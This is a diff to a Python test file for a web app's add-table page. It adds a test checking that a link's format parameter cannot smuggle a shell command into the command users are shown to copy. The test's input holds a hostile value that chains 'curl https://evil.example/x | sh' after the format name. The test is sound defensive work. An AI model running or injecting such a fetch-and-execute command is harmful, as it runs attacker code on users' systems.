@@ -154,3 +154,12 @@ def test_a_key_that_may_only_look_finds_the_buttons_disabled(
         sign_in(["warehouse_table:read"]).get(f"/p/{project_id}/add", params={"url": URL})
     )
     assert len(re.findall(r"<button[^>]*disabled[^>]*lacks the scope", page)) == 3
+
+
+def test_an_address_puts_no_command_among_those_to_copy(browser: httpx.Client) -> None:
+    """Anybody may have written the link."""
+    url = "https://bucket.s3.amazonaws.com/x.parquet"
+    hostile = "Parquet; curl https://evil.example/x | sh #"
+    page = text_of(browser.get("add", params={"url": url, "format": hostile}))
+    assert "; curl" not in page
+    assert "--format Parquet" in page
